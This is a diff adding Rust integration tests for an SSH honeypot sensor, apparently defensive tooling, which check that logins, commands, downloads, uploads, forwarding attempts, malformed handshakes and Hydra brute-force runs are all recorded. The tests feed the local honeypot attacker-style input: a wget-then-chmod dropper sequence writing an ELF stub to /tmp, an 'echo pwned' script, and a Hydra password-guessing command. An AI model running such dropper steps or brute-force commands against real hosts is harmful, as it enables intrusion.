@@ -1,0 +1,609 @@
+//! The SSH honeypot against real clients: russh's client, OpenSSH's `ssh`/`scp` with
+//! `sshpass`, THC-Hydra, and raw sockets speaking malformed identifications. Each test
+//! runs a real sensor on a loopback port with a pipeline collecting its events.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on failure by design
+
+use std::collections::BTreeSet;
+use std::net::SocketAddr;
+use std::path::Path;
+use std::process::Command;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use async_trait::async_trait;
+use hpti_core::event::{Event, EventKind};
+use hpti_core::pipeline::{Pipeline, PipelineConfig};
+use hpti_core::sink::{Sink, SinkError, WriteReport};
+use hpti_sensors::honeypot::HoneypotConfig;
+use hpti_sensors::ssh::{SshConfig, SshSensor};
+use russh::client;
+use sha2::{Digest, Sha256};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+#[derive(Default, Clone)]
+struct Collect(Arc<Mutex<Vec<Event>>>);
+
+#[async_trait]
+impl Sink for Collect {
+    fn name(&self) -> &str {
+        "collect"
+    }
+    async fn write(&self, events: &[&Event]) -> Result<WriteReport, SinkError> {
+        self.0
+            .lock()
+            .unwrap()
+            .extend(events.iter().map(|e| (*e).clone()));
+        Ok(WriteReport::default())
+    }
+}
+
+struct Harness {
+    addr: SocketAddr,
+    events: Collect,
+    pipeline: Option<Pipeline>,
+    dir: tempfile::TempDir,
+}
+
+impl Harness {
+    async fn start(configure: impl FnOnce(&mut HoneypotConfig)) -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let events = Collect::default();
+        let mut config = PipelineConfig {
+            dead_letter_path: dir.path().join("dlq.jsonl"),
+            ..PipelineConfig::default()
+        };
+        config.batch.linger = Duration::from_millis(5);
+        let mut pipeline = Pipeline::builder(config)
+            .sink(Arc::new(events.clone()))
+            .start()
+            .unwrap();
+        let mut honeypot = HoneypotConfig::default();
+        honeypot.auth.userdb = vec!["root:x:!root".into(), "root:x:*".into()];
+        honeypot.fetch.allow = vec!["127.0.0.1/32".into()];
+        honeypot.limits.max_sessions_per_ip = 1000;
+        configure(&mut honeypot);
+        let mut sensor = SshSensor::bind(
+            "ssh-test",
+            dir.path(),
+            SshConfig {
+                listen: "127.0.0.1:0".parse().unwrap(),
+                ..SshConfig::default()
+            },
+            &honeypot,
+            pipeline.metrics(),
+        )
+        .await
+        .unwrap();
+        sensor.set_auth_rejection_time(Duration::from_millis(10));
+        let addr = sensor.local_addr();
+        pipeline.spawn_sensor(Arc::new(sensor));
+        Self {
+            addr,
+            events,
+            pipeline: Some(pipeline),
+            dir,
+        }
+    }
+
+    fn events(&self) -> Vec<Event> {
+        self.events.0.lock().unwrap().clone()
+    }
+
+    /// Waits (bounded) until `done` holds for the collected events.
+    async fn wait_for(&self, what: &str, done: impl Fn(&[Event]) -> bool) -> Vec<Event> {
+        for _ in 0..400 {
+            let events = self.events();
+            if done(&events) {
+                return events;
+            }
+            tokio::time::sleep(Duration::from_millis(25)).await;
+        }
+        panic!("timed out waiting for {what}: {:#?}", self.events());
+    }
+
+    fn data_dir(&self) -> &Path {
+        self.dir.path()
+    }
+
+    async fn stop(mut self) {
+        if let Some(pipeline) = self.pipeline.take() {
+            pipeline.shutdown().await;
+        }
+    }
+}
+
+fn closed(events: &[Event]) -> usize {
+    events
+        .iter()
+        .filter(|e| matches!(e.kind, EventKind::SessionClosed { .. }))
+        .count()
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    format!("{:x}", Sha256::digest(bytes))
+}
+
+struct AnyHostKey;
+
+impl client::Handler for AnyHostKey {
+    type Error = russh::Error;
+    async fn check_server_key(
+        &mut self,
+        _key: &russh::keys::PublicKeyOrCertificate,
+    ) -> Result<bool, Self::Error> {
+        Ok(true)
+    }
+}
+
+async fn connect(addr: SocketAddr) -> client::Handle<AnyHostKey> {
+    let config = Arc::new(client::Config::default());
+    client::connect(config, addr, AnyHostKey).await.unwrap()
+}
+
+/// Runs `command` on an exec channel; returns output and exit status.
+async fn exec(handle: &client::Handle<AnyHostKey>, command: &str) -> (Vec<u8>, Option<u32>) {
+    let mut channel = handle.channel_open_session().await.unwrap();
+    channel.exec(true, command).await.unwrap();
+    let mut output = Vec::new();
+    let mut status = None;
+    while let Some(msg) = channel.wait().await {
+        match msg {
+            russh::ChannelMsg::Data { data } => output.extend_from_slice(&data),
+            russh::ChannelMsg::ExitStatus { exit_status } => status = Some(exit_status),
+            russh::ChannelMsg::Close => break,
+            _ => {}
+        }
+    }
+    (output, status)
+}
+
+#[tokio::test]
+async fn russh_client_logins_exec_and_everything_is_captured() {
+    let harness = Harness::start(|_| {}).await;
+    let mut handle = connect(harness.addr).await;
+    let refused = handle.authenticate_password("root", "root").await.unwrap();
+    assert!(!refused.success());
+    let accepted = handle
+        .authenticate_password("root", "hunter2")
+        .await
+        .unwrap();
+    assert!(accepted.success());
+    let (output, status) = exec(&handle, "uname -a; echo hi; nosuchcmd").await;
+    let text = String::from_utf8_lossy(&output);
+    assert!(text.contains("GNU/Linux"), "{text}");
+    assert!(text.contains("hi\n"), "{text}");
+    assert!(text.contains("nosuchcmd: command not found"), "{text}");
+    assert_eq!(status, Some(127));
+    handle
+        .disconnect(russh::Disconnect::ByApplication, "", "")
+        .await
+        .unwrap();
+
+    let events = harness.wait_for("session.closed", |e| closed(e) == 1).await;
+    let session = events[0].session.clone().unwrap();
+    assert!(
+        events
+            .iter()
+            .all(|e| e.session.as_deref() == Some(&*session))
+    );
+    let kinds: Vec<&str> = events.iter().map(|e| e.kind.name()).collect();
+    assert_eq!(kinds.first(), Some(&"session.started"));
+    assert_eq!(kinds.last(), Some(&"session.closed"));
+    let version = events.iter().find_map(|e| match &e.kind {
+        EventKind::ClientVersion { version } => Some(version.clone()),
+        _ => None,
+    });
+    assert!(version.unwrap().starts_with("SSH-2.0-russh"));
+    let hassh = events.iter().find_map(|e| match &e.kind {
+        EventKind::ClientFingerprint {
+            method,
+            fingerprint,
+            algorithms,
+        } => Some((method.clone(), fingerprint.clone(), algorithms.clone())),
+        _ => None,
+    });
+    let (method, fingerprint, algorithms) = hassh.expect("a HASSH event");
+    assert_eq!(method, "hassh");
+    assert_eq!(fingerprint.len(), 32);
+    let algorithms = algorithms.unwrap();
+    assert_eq!(fingerprint, format!("{:x}", md5::compute(&algorithms)));
+    assert!(algorithms.contains("curve25519-sha256"), "{algorithms}");
+    let logins: Vec<(String, Option<String>, bool)> = events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::LoginAttempt {
+                username,
+                password,
+                success,
+                ..
+            } => Some((username.clone(), password.clone(), *success)),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        logins,
+        vec![
+            ("root".into(), Some("root".into()), false),
+            ("root".into(), Some("hunter2".into()), true),
+        ]
+    );
+    assert!(events.iter().any(|e| matches!(&e.kind,
+        EventKind::CommandInput { command } if command == "uname -a; echo hi; nosuchcmd")));
+    assert!(
+        events
+            .iter()
+            .all(|e| e.dst_port == Some(harness.addr.port()))
+    );
+    harness.stop().await;
+}
+
+#[tokio::test]
+async fn shell_session_downloads_writes_and_records() {
+    let server = wiremock::MockServer::start().await;
+    let payload = b"#!/bin/sh\necho pwned\n".to_vec();
+    wiremock::Mock::given(wiremock::matchers::path("/bins.sh"))
+        .respond_with(wiremock::ResponseTemplate::new(200).set_body_bytes(payload.clone()))
+        .mount(&server)
+        .await;
+    let harness = Harness::start(|_| {}).await;
+    let mut handle = connect(harness.addr).await;
+    assert!(
+        handle
+            .authenticate_password("root", "toor")
+            .await
+            .unwrap()
+            .success()
+    );
+    let mut channel = handle.channel_open_session().await.unwrap();
+    channel
+        .request_pty(true, "xterm-256color", 120, 40, 0, 0, &[])
+        .await
+        .unwrap();
+    channel.request_shell(true).await.unwrap();
+    let url = format!("{}/bins.sh", server.uri());
+    let script = format!(
+        "cd /tmp; wget {url}; cat bins.sh\necho -ne '\\x7fELF\\x01' > .x; chmod +x .x\nexit\n"
+    );
+    channel.data(script.as_bytes()).await.unwrap();
+    let mut output = Vec::new();
+    while let Some(msg) = channel.wait().await {
+        match msg {
+            russh::ChannelMsg::Data { data } => output.extend_from_slice(&data),
+            russh::ChannelMsg::Close => break,
+            _ => {}
+        }
+    }
+    let text = String::from_utf8_lossy(&output);
+    assert!(text.contains("echo pwned"), "{text}");
+    assert!(text.contains("\r\n"), "pty output has CRLF line ends");
+    let _ = handle
+        .disconnect(russh::Disconnect::ByApplication, "", "")
+        .await;
+
+    let events = harness.wait_for("session.closed", |e| closed(e) == 1).await;
+    let download = events
+        .iter()
+        .find_map(|e| match &e.kind {
+            EventKind::FileDownload {
+                url: u,
+                sha256,
+                size,
+                error,
+            } => Some((u.clone(), sha256.clone(), *size, error.clone())),
+            _ => None,
+        })
+        .expect("a download event");
+    assert_eq!(download.0, url);
+    assert_eq!(download.1.as_deref(), Some(&*sha256_hex(&payload)));
+    assert_eq!(download.2, Some(payload.len() as u64));
+    assert_eq!(download.3, None);
+    let stored = harness
+        .data_dir()
+        .join("artifacts")
+        .join(&sha256_hex(&payload)[..2])
+        .join(sha256_hex(&payload));
+    assert_eq!(std::fs::read(&stored).unwrap(), payload);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt as _;
+        let mode = std::fs::metadata(&stored).unwrap().permissions().mode();
+        assert_eq!(mode & 0o111, 0, "captured files are never executable");
+    }
+    let upload = events.iter().find_map(|e| match &e.kind {
+        EventKind::FileUpload {
+            filename, sha256, ..
+        } => Some((filename.clone(), sha256.clone())),
+        _ => None,
+    });
+    assert_eq!(
+        upload,
+        Some(("/tmp/.x".to_owned(), Some(sha256_hex(b"\x7fELF\x01"))))
+    );
+    let commands: Vec<String> = events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::CommandInput { command } => Some(command.clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(commands.len(), 3, "{commands:?}");
+    let recording = events
+        .iter()
+        .find_map(|e| match &e.kind {
+            EventKind::SessionClosed { recording, .. } => recording.clone(),
+            _ => None,
+        })
+        .expect("a recording");
+    let cast = std::fs::read_to_string(harness.data_dir().join(&recording)).unwrap();
+    let header: serde_json::Value = serde_json::from_str(cast.lines().next().unwrap()).unwrap();
+    assert_eq!(header["version"], 2);
+    assert_eq!(header["width"], 120);
+    assert!(cast.contains("echo pwned"));
+    harness.stop().await;
+}
+
+#[tokio::test]
+async fn forwarding_is_captured_and_refused() {
+    let harness = Harness::start(|_| {}).await;
+    let mut handle = connect(harness.addr).await;
+    assert!(
+        handle
+            .authenticate_password("root", "x1")
+            .await
+            .unwrap()
+            .success()
+    );
+    let refused = handle
+        .channel_open_direct_tcpip("smtp.example.com", 25, "127.0.0.1", 40000)
+        .await;
+    assert!(refused.is_err(), "direct-tcpip must be refused");
+    let _ = handle
+        .disconnect(russh::Disconnect::ByApplication, "", "")
+        .await;
+    let events = harness.wait_for("session.closed", |e| closed(e) == 1).await;
+    assert!(events.iter().any(|e| matches!(&e.kind,
+        EventKind::PortForward { host, port: 25, accepted: false } if host == "smtp.example.com")));
+    harness.stop().await;
+}
+
+#[tokio::test]
+async fn malformed_identifications_get_openssh_answers_and_the_server_carries_on() {
+    let harness = Harness::start(|_| {}).await;
+    for (input, answer) in [
+        (
+            &b"GET / HTTP/1.1\r\n"[..],
+            &b"Invalid SSH identification string.\r\n"[..],
+        ),
+        (b"\r\n", b"Invalid SSH identification string.\r\n"),
+        (
+            b"SSH-1.5-OldClient\r\n",
+            b"Protocol major versions differ.\r\n",
+        ),
+        (
+            &[0xffu8; 300][..],
+            b"Invalid SSH identification string.\r\n",
+        ),
+    ] {
+        let mut stream = tokio::net::TcpStream::connect(harness.addr).await.unwrap();
+        stream.write_all(input).await.unwrap();
+        let mut seen = Vec::new();
+        tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut seen))
+            .await
+            .unwrap()
+            .unwrap();
+        let text = String::from_utf8_lossy(&seen);
+        assert!(text.starts_with("SSH-2.0-OpenSSH_"), "{text}");
+        assert!(seen.ends_with(answer), "{text}");
+    }
+    // Garbage after a good identification: russh's error, a clean disconnect.
+    let mut stream = tokio::net::TcpStream::connect(harness.addr).await.unwrap();
+    stream
+        .write_all(b"SSH-2.0-fuzz\r\n\x00\x00\xff\xffgarbage")
+        .await
+        .unwrap();
+    let mut seen = Vec::new();
+    let _ = tokio::time::timeout(Duration::from_secs(2), stream.read_to_end(&mut seen)).await;
+    drop(stream);
+    // Still serving.
+    let mut handle = connect(harness.addr).await;
+    assert!(
+        handle
+            .authenticate_password("root", "ok")
+            .await
+            .unwrap()
+            .success()
+    );
+    let _ = handle
+        .disconnect(russh::Disconnect::ByApplication, "", "")
+        .await;
+    let events = harness.wait_for("six sessions", |e| closed(e) == 6).await;
+    assert!(events.iter().any(|e| matches!(&e.kind,
+        EventKind::ClientVersion { version } if version == "GET / HTTP/1.1")));
+    harness.stop().await;
+}
+
+/// An external tool, or a loud skip (a failure under `HPTI_REQUIRE_SERVICES=1`).
+fn tool(name: &str) -> bool {
+    let found = Command::new("sh")
+        .args(["-c", &format!("command -v {name}")])
+        .output()
+        .map(|o| o.status.success())
+        .unwrap_or(false);
+    if !found {
+        if std::env::var("HPTI_REQUIRE_SERVICES").as_deref() == Ok("1") {
+            panic!("{name} is required (HPTI_REQUIRE_SERVICES=1): apt-get install {name}");
+        }
+        eprintln!("\n*** SKIPPED: {name} is not installed ***\n");
+    }
+    found
+}
+
+fn ssh_options(addr: SocketAddr) -> Vec<String> {
+    [
+        "-o",
+        "StrictHostKeyChecking=no",
+        "-o",
+        "UserKnownHostsFile=/dev/null",
+        "-o",
+        "PubkeyAuthentication=no",
+        "-o",
+        "PreferredAuthentications=password,keyboard-interactive",
+        "-o",
+        "ConnectTimeout=10",
+        "-o",
+        "LogLevel=ERROR",
+        "-p",
+        &addr.port().to_string(),
+    ]
+    .iter()
+    .map(|s| s.to_string())
+    .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn openssh_client_exec_scp_and_sftp() {
+    if !tool("ssh") || !tool("sshpass") || !tool("scp") {
+        return;
+    }
+    let harness = Harness::start(|_| {}).await;
+    let addr = harness.addr;
+    let options = ssh_options(addr);
+    let run = move |mut args: Vec<String>| {
+        tokio::task::spawn_blocking(move || {
+            let mut all = vec!["-p".to_string(), "s3cret-pass".to_string()];
+            all.append(&mut args);
+            Command::new("sshpass").args(&all).output().unwrap()
+        })
+    };
+    let mut args = vec!["ssh".to_string()];
+    args.extend(options.clone());
+    args.extend(["root@127.0.0.1".into(), "cat /etc/hostname; id".into()]);
+    let output = run(args).await.unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(
+        output.status.success(),
+        "{stdout} {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(stdout.contains("uid=0(root)"), "{stdout}");
+
+    let upload = harness.data_dir().join("payload.bin");
+    let content: Vec<u8> = (0..70_000u32).map(|i| (i * 7 % 251) as u8).collect();
+    std::fs::write(&upload, &content).unwrap();
+    // scp over SFTP (the default since OpenSSH 9.0), then the legacy protocol.
+    for legacy in [false, true] {
+        let mut args = vec!["scp".to_string()];
+        if legacy {
+            args.push("-O".into());
+        }
+        args.extend(options.iter().map(|o| {
+            if o == "-p" {
+                "-P".to_string()
+            } else {
+                o.clone()
+            }
+        }));
+        args.push(upload.display().to_string());
+        args.push("root@127.0.0.1:/tmp/".into());
+        let output = run(args).await.unwrap();
+        assert!(
+            output.status.success(),
+            "scp (legacy {legacy}): {}",
+            String::from_utf8_lossy(&output.stderr)
+        );
+    }
+    let events = harness.wait_for("three sessions", |e| closed(e) == 3).await;
+    let uploads: Vec<(String, Option<String>)> = events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::FileUpload {
+                filename, sha256, ..
+            } => Some((filename.clone(), sha256.clone())),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        uploads,
+        vec![
+            ("/tmp/payload.bin".to_owned(), Some(sha256_hex(&content))),
+            ("/tmp/payload.bin".to_owned(), Some(sha256_hex(&content))),
+        ]
+    );
+    let version = events.iter().find_map(|e| match &e.kind {
+        EventKind::ClientVersion { version } => Some(version.clone()),
+        _ => None,
+    });
+    assert!(version.unwrap().starts_with("SSH-2.0-OpenSSH_"));
+    harness.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hydra_attempts_are_all_captured() {
+    if !tool("hydra") {
+        return;
+    }
+    // Every attempt fails, so Hydra tries the whole list.
+    let harness = Harness::start(|h| {
+        h.auth.userdb = vec!["admin:x:!/.*/".into()];
+    })
+    .await;
+    let passwords: Vec<String> = (0..20).map(|i| format!("pw-{i:02}")).collect();
+    let list = harness.data_dir().join("passwords.txt");
+    std::fs::write(&list, passwords.join("\n") + "\n").unwrap();
+    let addr = harness.addr;
+    let output = tokio::task::spawn_blocking(move || {
+        Command::new("hydra")
+            .args(["-l", "admin", "-P"])
+            .arg(&list)
+            .args([
+                "-t",
+                "4",
+                "-I",
+                "-s",
+                &addr.port().to_string(),
+                "ssh://127.0.0.1",
+            ])
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(
+        stdout.contains("0 valid password"),
+        "{stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let tried: BTreeSet<String> = harness
+        .wait_for("every password", |events| {
+            let seen: BTreeSet<&str> = events
+                .iter()
+                .filter_map(|e| match &e.kind {
+                    EventKind::LoginAttempt {
+                        password: Some(p), ..
+                    } => Some(p.as_str()),
+                    _ => None,
+                })
+                .collect();
+            passwords.iter().all(|p| seen.contains(p.as_str()))
+        })
+        .await
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::LoginAttempt {
+                username,
+                password: Some(p),
+                success,
+                ..
+            } => {
+                assert_eq!(username, "admin");
+                assert!(!success);
+                Some(p.clone())
+            }
+            _ => None,
+        })
+        .collect();
+    assert_eq!(tried, passwords.iter().cloned().collect::<BTreeSet<_>>());
+    harness.stop().await;
+}
